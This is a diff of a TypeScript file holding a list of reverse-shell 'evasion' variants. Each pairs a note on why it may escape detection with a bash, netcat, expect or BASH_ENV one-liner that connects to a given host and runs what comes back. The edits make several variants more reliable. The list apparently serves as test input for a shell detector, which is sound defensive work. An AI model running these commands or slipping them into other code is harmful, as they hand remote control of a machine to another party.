@@ -35,14 +35,14 @@ export const SHELLS: readonly Evasion[] = [
     (place) => `eval "$(head -n1 <${tcp(place)})"; sleep 2`,
   ),
   evasion(
-    "source reads the descriptor of the connection",
+    "source reads what came over the connection",
     "no shell is started and none reads standard input",
-    (place) => `exec 5<>${tcp(place)}; . /dev/fd/5 >&5 2>&1`,
+    (place) => `exec 5<>${tcp(place)}; . <(head -n1 <&5) >&5 2>&1; sleep 2`,
   ),
   evasion(
     "a shell is given the connection as a script file",
     "its standard input is not the connection",
-    (place) => `exec 9<>${tcp(place)}; bash /dev/fd/9 >&9 2>&1`,
+    (place) => `exec 9<>${tcp(place)}; bash <(cat <&9) >&9 2>&1`,
   ),
   evasion(
     "a shell runs the process substitution of netcat",
@@ -52,7 +52,7 @@ export const SHELLS: readonly Evasion[] = [
   evasion(
     "BASH_ENV names a process substitution",
     "the shell runs true, and first what the environment says",
-    (place) => `BASH_ENV=<(nc ${peer(place)}) bash -c true; sleep 2`,
+    (place) => `BASH_ENV=<(nc ${peer(place)} | head -n1) bash -c true; sleep 2`,
   ),
   evasion(
     "here-strings carry each line to a new shell",
@@ -160,7 +160,9 @@ export const SHELLS: readonly Evasion[] = [
     "expect joins netcat and a shell",
     "two terminals, and an interpreter in between that is made for it",
     (place) =>
-      `exec expect -c 'log_user 0; spawn sh; set shell $spawn_id; spawn nc ${peer(place)}; set far $spawn_id; interact -u $shell'`,
+      `exec expect -c 'log_user 0; set timeout -1; set stty_init -echo
+spawn nc ${peer(place)}; set far $spawn_id; spawn sh; set shell $spawn_id
+while 1 { expect -i $far -re "(.+)\n" { send -i $shell "$expect_out(1,string)\n" } -i $shell -re ".+" { send -i $far $expect_out(buffer) } }'`,
   ),
   evasion(
     "zsh connects by its own module",
